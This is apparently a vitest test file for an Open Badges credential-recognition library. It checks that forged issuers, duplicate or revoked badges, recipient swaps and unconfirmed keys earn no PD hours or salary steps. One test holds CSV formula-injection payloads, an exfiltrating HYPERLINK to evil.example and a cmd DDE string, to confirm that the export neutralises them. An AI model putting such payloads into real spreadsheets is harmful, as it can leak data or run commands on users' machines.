import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { bakePng } from '../../src/bake/png.js'
import { bakeSvg } from '../../src/bake/svg.js'
import { PathwayIncomplete } from '../../src/errors.js'
import { generateIssuerKey } from '../../src/keys/issuer-keys.js'
import { countingBadges } from '../../src/recognition/counting-badges.js'
import { issueEndorsement } from '../../src/recognition/endorsement.js'
import { checkPathway, issuePathwayCredential } from '../../src/recognition/pathway-credential.js'
import { type RecognitionRule, recognitionCsv, recognitionReport } from '../../src/recognition/report.js'
import { signDataIntegrity } from '../../src/sign/data-integrity.js'
import { signerFromJwk } from '../../src/sign/signer.js'
import { signVcJwt } from '../../src/sign/vc-jwt.js'
import { changeStatus } from '../../src/status/status-list.js'
import { parseTrustList } from '../../src/verify/trust-list.js'
import { verifyBadge } from '../../src/verify/verify-badge.js'
import { ROOT } from '../helpers/examples.js'
import { awardedCredential, issuer, NOW } from '../helpers/issue.js'
import {
  ANA,
  ANA_BY_EMAIL,
  BEN,
  credentialId,
  DISTRICT_NAME,
  districtStatus,
  districtTrust,
  executive,
  formative,
  gestures,
  memberBadge,
  pathway,
} from '../helpers/recognition.js'

const PD: RecognitionRule = { kind: 'pd-hours', achievementType: 'MicroCredential', hours: 15 }
const STEP: RecognitionRule = { kind: 'salary-step', pathway, steps: 1 }
const verifyOptions = { now: NOW }

describe('the issue’s attacks on recognition', () => {
  it('a self-signed did:key calling itself "Springfield Public Schools" earns nothing; the organisation shown is the trust list’s name', async () => {
    const forged = await memberBadge({ issuerName: 'self-signed-springfield' })
    const real = await memberBadge()
    expect(forged.issuer.name).toBe('Springfield Public Schools')
    expect((await verifyBadge(forged, verifyOptions)).verified).toBe(true) // intact proof, confirmed did:key: only the trust list stops it

    const report = await recognitionReport([forged, real], [PD], { trust: await districtTrust(), verifyOptions })
    expect(report.educators).toEqual([expect.objectContaining({ educator: ANA.id, district: DISTRICT_NAME, organisations: [DISTRICT_NAME], pdHours: 15, credentials: [real.id] })])
    expect(report.districts).toEqual([{ district: DISTRICT_NAME, educators: 1, microCredentials: 1, pdHours: 15, salarySteps: 0 }])
    expect(report.excluded).toEqual([expect.objectContaining({ index: 0, credentialId: forged.id, code: 'ERR_OB_ISSUER_UNTRUSTED' })])

    const alone = await recognitionReport([forged], [PD], { trust: await districtTrust(), verifyOptions })
    expect(alone.educators).toEqual([])
  })

  it('the district key cannot sign a salary-step pathway over members from "Totally Legit Academy"', async () => {
    const academy = { issuerName: 'totally-legit-academy' }
    const badges = [await memberBadge({ ...academy, template: gestures }), await memberBadge({ ...academy, template: executive })]
    const { key, signer } = await issuer('EdDSA', 'district')
    const refused = issuePathwayCredential({ pathway, badges, trust: await districtTrust(), recipient: { id: ANA.id! }, issuer: { id: key.issuerId, name: 'District' }, signer, verifyOptions })
    await expect(refused).rejects.toBeInstanceOf(PathwayIncomplete)
    await expect(refused).rejects.toMatchObject({ code: 'ERR_OB_PATHWAY_INCOMPLETE', unmet: expect.arrayContaining([expect.objectContaining({ path: '/rule/allOf/0', code: 'ERR_OB_ISSUER_UNTRUSTED' })]) })
  })

  it('one credential given three times plus once baked (and as a JWT and SVG) counts once: 15 h, not 60', async () => {
    const badge = await memberBadge()
    const { signer } = await issuer('EdDSA', 'district')
    const { proof: _proof, ...unsigned } = badge
    const jwt = await signVcJwt(unsigned, { signer })
    const json = JSON.stringify(badge)
    const png = bakePng(readFileSync(join(ROOT, 'test/fixtures/validator/baked/simple-json.png')), json)
    const svg = bakeSvg(readFileSync(join(ROOT, 'test/fixtures/validator/baked/simple-json.svg'), 'utf8'), json)
    const report = await recognitionReport([badge, json, new TextEncoder().encode(json), png, svg, jwt], [PD], { trust: await districtTrust(), verifyOptions })
    expect(report.educators).toEqual([expect.objectContaining({ pdHours: 15, microCredentials: 1 })])
    expect(report.excluded.map((e) => [e.index, e.code])).toEqual([1, 2, 3, 4, 5].map((i) => [i, 'ERR_OB_CREDENTIAL_DUPLICATE']))
  })

  it('a badge re-issued after a typo fix counts once (the later one): 15 h, not 30', async () => {
    const first = await memberBadge({ validFrom: new Date('2026-10-10T12:00:00Z') })
    const fixed = await memberBadge({ validFrom: new Date('2026-10-20T12:00:00Z') })
    for (const order of [[first, fixed], [fixed, first]]) {
      const report = await recognitionReport(order, [PD], { trust: await districtTrust(), verifyOptions })
      expect(report.educators).toEqual([expect.objectContaining({ pdHours: 15, credentials: [fixed.id] })])
      expect(report.excluded).toEqual([expect.objectContaining({ credentialId: first.id, code: 'ERR_OB_CREDENTIAL_SUPERSEDED', educator: ANA.id })])
    }
  })

  it('an educator known only by email, hashed with a different salt on each badge, is one person with her salary step', async () => {
    const badges = [
      await memberBadge({ educator: ANA_BY_EMAIL, template: gestures, salt: 'salt-one' }),
      await memberBadge({ educator: ANA_BY_EMAIL, template: executive, salt: 'salt-two' }),
    ]
    expect(badges[0]!.credentialSubject.identifier![0]!.identityHash).not.toBe(badges[1]!.credentialSubject.identifier![0]!.identityHash)
    const educators = [{ name: 'Ana Rivera', emails: ['  Ana.Rivera@District.example.org '] }]
    const report = await recognitionReport(badges, [PD, STEP], { trust: await districtTrust(), educators, verifyOptions })
    expect(report.educators).toEqual([expect.objectContaining({ educator: 'Ana Rivera', microCredentials: 2, pdHours: 30, salarySteps: 1 })])
    expect(report.excluded).toEqual([])

    // Without her email nothing ties the badges to anyone: listed as unmatched, counted for nothing.
    const unknown = await recognitionReport(badges, [PD, STEP], { trust: await districtTrust(), verifyOptions })
    expect(unknown.educators).toEqual([])
    expect(unknown.excluded.map((e) => e.code)).toEqual(['ERR_OB_RECIPIENT_UNMATCHED', 'ERR_OB_RECIPIENT_UNMATCHED'])
  })

  it('two educators’ badges do not complete one educator’s stack', async () => {
    const badges = [await memberBadge({ educator: ANA, template: gestures }), await memberBadge({ educator: BEN, template: executive })]
    const report = await recognitionReport(badges, [PD, STEP], { trust: await districtTrust(), verifyOptions })
    expect(report.educators.map((r) => [r.educator, r.pdHours, r.salarySteps])).toEqual([
      [ANA.id, 15, 0],
      [BEN.id, 15, 0],
    ])
    const check = await checkPathway(pathway, badges, { trust: await districtTrust(), recipient: { id: ANA.id! }, verifyOptions })
    expect(check.progress.complete).toBe(false)
    expect(check.rejected).toEqual([expect.objectContaining({ credentialId: badges[1]!.id, code: 'ERR_OB_RECIPIENT_UNMATCHED' })])

    // The same two people known by email only: still two people.
    const byEmail = [
      await memberBadge({ educator: ANA_BY_EMAIL, template: gestures }),
      await memberBadge({ educator: { name: 'Ben Okafor', email: BEN.email! }, template: executive }),
    ]
    const educators = [
      { name: 'Ana Rivera', emails: [ANA.email!] },
      { name: 'Ben Okafor', emails: [BEN.email!] },
    ]
    const emailReport = await recognitionReport(byEmail, [PD, STEP], { trust: await districtTrust(), educators, verifyOptions })
    expect(emailReport.educators.map((r) => [r.educator, r.salarySteps])).toEqual([
      ['Ana Rivera', 0],
      ['Ben Okafor', 0],
    ])
  })

  it('pathway issue --recipient did:example:mallory over Ana’s email-identified badges is refused', async () => {
    const badges = [await memberBadge({ educator: ANA_BY_EMAIL, template: gestures }), await memberBadge({ educator: ANA_BY_EMAIL, template: executive })]
    const { key, signer } = await issuer('EdDSA', 'district')
    const common = { pathway, badges, trust: await districtTrust(), issuer: { id: key.issuerId, name: 'District' }, signer, verifyOptions }
    const refused = issuePathwayCredential({ ...common, recipient: { id: 'did:example:mallory' } })
    await expect(refused).rejects.toMatchObject({
      code: 'ERR_OB_PATHWAY_INCOMPLETE',
      unmet: expect.arrayContaining([expect.objectContaining({ path: '/rule/allOf/0', code: 'ERR_OB_RECIPIENT_UNMATCHED' })]),
    })
    // Mallory naming Ana's email does not help against badges that carry Ana's DID either.
    const withIds = [await memberBadge({ educator: ANA, template: gestures }), await memberBadge({ educator: ANA, template: executive })]
    await expect(issuePathwayCredential({ ...common, badges: withIds, recipient: { id: 'did:example:mallory', emails: [ANA.email!] } })).rejects.toMatchObject({
      code: 'ERR_OB_PATHWAY_INCOMPLETE',
    })
    // Ana herself, by her email, gets it; the credential names her by a fresh salted hash.
    const issued = await issuePathwayCredential({ ...common, recipient: { emails: [ANA.email!] }, validFrom: new Date('2026-10-25T00:00:00Z') })
    expect(issued.credentialSubject.id).toBeUndefined()
    expect(issued.credentialSubject.identifier).toEqual([expect.objectContaining({ hashed: true, identityType: 'emailAddress' })])
    expect((await verifyBadge(issued, verifyOptions)).checks.filter((c) => c.status === 'failed')).toEqual([])
  })

  it('a revoked member is skipped and a valid alternative completes the "1 of 2" rule', async () => {
    const status = await districtStatus()
    const ids: [string, string, string] = [credentialId(), credentialId(), credentialId()]
    const badges = [
      await memberBadge({ id: ids[0], template: gestures, credentialStatus: await status.allocate(ids[0]) }),
      await memberBadge({ id: ids[1], template: executive, credentialStatus: await status.allocate(ids[1]) }),
      await memberBadge({ id: ids[2], template: formative, credentialStatus: await status.allocate(ids[2]) }),
    ]
    await changeStatus(status.store, { credentialId: ids[1]!, action: 'revoke', reason: 'Plagiarised evidence' })
    const options = { trust: await districtTrust(), recipient: { id: ANA.id! }, verifyOptions: { now: NOW, statusLists: await status.lists() } }
    const check = await checkPathway(pathway, badges, options)
    expect(check.progress.complete).toBe(true)
    expect(check.verified.map((v) => v.credentialId).sort()).toEqual([ids[0], ids[2]].sort())
    expect(check.rejected).toEqual([expect.objectContaining({ credentialId: ids[1], code: 'ERR_OB_STATUS_REVOKED' })])
    const { key, signer } = await issuer('EdDSA', 'district')
    const issued = await issuePathwayCredential({ ...options, pathway, badges, issuer: { id: key.issuerId, name: 'District' }, signer })
    expect(issued.evidence!.map((e) => e.id).sort()).toEqual([ids[0], ids[2]].sort())

    // Without the alternative the refusal names the rule and the revocation.
    const refused = await issuePathwayCredential({ ...options, pathway, badges: badges.slice(0, 2), issuer: { id: key.issuerId, name: 'District' }, signer }).catch((e: unknown) => e)
    expect(refused).toBeInstanceOf(PathwayIncomplete)
    expect((refused as PathwayIncomplete).unmet).toEqual([
      { path: '/rule/allOf/1', code: 'ERR_OB_PATHWAY_INCOMPLETE', message: 'needs 1 more of its 2 options' },
      expect.objectContaining({ path: '/rule/allOf/1/of/0', template: formative.id, code: 'ERR_OB_PATHWAY_MEMBER_MISSING' }),
      expect.objectContaining({ path: '/rule/allOf/1/of/1', template: executive.id, code: 'ERR_OB_STATUS_REVOKED' }),
    ])
    expect((refused as Error).message).toContain('/rule/allOf/1/of/1 ERR_OB_STATUS_REVOKED')
  })

  it('a revoked badge whose "credentialStatus" key is renamed to its full IRI (same RDF, proof still valid) earns no PD hours', async () => {
    const status = await districtStatus()
    const id = credentialId()
    const badge = (await memberBadge({ id, template: gestures, credentialStatus: await status.allocate(id) })) as unknown as Record<string, unknown>
    await changeStatus(status.store, { credentialId: id, action: 'revoke', reason: 'Plagiarised evidence' })
    const { credentialStatus, ...rest } = badge
    const aliased = { ...rest, 'https://www.w3.org/2018/credentials#credentialStatus': credentialStatus }
    const options = { trust: await districtTrust(), verifyOptions: { now: NOW, statusLists: await status.lists() } }
    for (const [input, code] of [
      [badge, 'ERR_OB_STATUS_REVOKED'],
      [aliased, 'ERR_OB_JSONLD_INVALID'],
    ] as const) {
      const report = await recognitionReport([input as never], [PD], options)
      expect(report.educators).toEqual([])
      expect(report.excluded).toEqual([expect.objectContaining({ code })])
    }
  })

  it('report --csv neutralises formula cells and quotes CR, LF, commas and quotes (RFC 4180)', async () => {
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    const trust = parseTrustList({ issuers: [{ id: (await issuer('EdDSA', 'district')).key.issuerId, name: '@SUM(1+1)*cmd|" /C calc"!A0' }] })
    const badges = [await memberBadge({ educator: ANA_BY_EMAIL })]
    const educators = [{ name: hostile, emails: [ANA.email!] }]
    const report = await recognitionReport(badges, [PD], { trust, educators, verifyOptions })
    for (const start of ['+1+1', '-2+3', '\tx', '\rx', 'line\rbreak', 'plain, "quoted"\nnext'])
      report.educators.push({ ...report.educators[0]!, educator: start, district: 'D' })
    const csv = recognitionCsv(report)
    const rows = parse(csv, { columns: true, relax_column_count: false }) as Record<string, string>[]
    expect(rows.map((r) => r.educator)).toEqual([`'${hostile}`, "'+1+1", "'-2+3", "'\tx", "'\rx", 'line\rbreak', 'plain, "quoted"\nnext'])
    expect(rows[0]!.district).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`)
    expect(rows[0]!.pd_hours).toBe('15')
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(csv).toContain('"line\rbreak"')
  })

  it('conformance mode never lets a claimed key count: a did:web district badge verified with acceptClaimedKey is excluded (ERR_OB_KEY_UNCONFIRMED)', async () => {
    const web = await generateIssuerKey({ identifier: { method: 'did:web', host: 'district.example.org' } })
    const claimed = await signDataIntegrity(await awardedCredential(web, { id: credentialId() }), { signer: await signerFromJwk(web.privateJwk, { id: web.verificationMethod }) })
    const trust = await districtTrust([{ id: web.issuerId, name: 'Springfield (did:web)' }])
    const conformance = { now: NOW, acceptClaimedKey: true }
    const report = await verifyBadge(claimed, conformance)
    expect(report.verified).toBe(true) // the conformance verdict, as the 1EdTech validator gives it
    expect(report.issuerKeyConfirmed).toBe(false)
    const recognition = await recognitionReport([claimed], [PD], { trust, verifyOptions: conformance })
    expect(recognition.educators).toEqual([])
    expect(recognition.excluded).toEqual([expect.objectContaining({ index: 0, credentialId: claimed.id, code: 'ERR_OB_KEY_UNCONFIRMED' })])
    const { counting, excluded } = await countingBadges([claimed], { trust, verifyOptions: conformance })
    expect(counting).toEqual([])
    expect(excluded).toEqual([expect.objectContaining({ code: 'ERR_OB_KEY_UNCONFIRMED' })])
  })

  it('an endorsement confers no trust: an untrusted academy’s badge endorsed by the trusted district still earns nothing (ERR_OB_ISSUER_UNTRUSTED)', async () => {
    const academy = await memberBadge({ issuerName: 'totally-legit-academy' })
    const { key: district, signer: districtSigner } = await issuer('EdDSA', 'district')
    const { key: academyKey, signer: academySigner } = await issuer('EdDSA', 'totally-legit-academy')
    const endorsement = await issueEndorsement({ endorser: { id: district.issuerId, name: 'District' }, subjectId: academyKey.issuerId, comment: 'Fine people.', signer: districtSigner, validFrom: new Date('2026-01-01T00:00:00Z') })
    const { proof: _proof, ...unsigned } = academy
    const endorsed = await signDataIntegrity({ ...unsigned, endorsement: [endorsement] } as typeof unsigned, { signer: academySigner })
    const report = await verifyBadge(endorsed, verifyOptions)
    expect(report.endorsements).toEqual([expect.objectContaining({ verified: true, issuerKeyConfirmed: true })])
    const recognition = await recognitionReport([endorsed], [PD], { trust: await districtTrust(), verifyOptions })
    expect(recognition.educators).toEqual([])
    expect(recognition.excluded).toEqual([expect.objectContaining({ index: 0, code: 'ERR_OB_ISSUER_UNTRUSTED' })])
  })
})
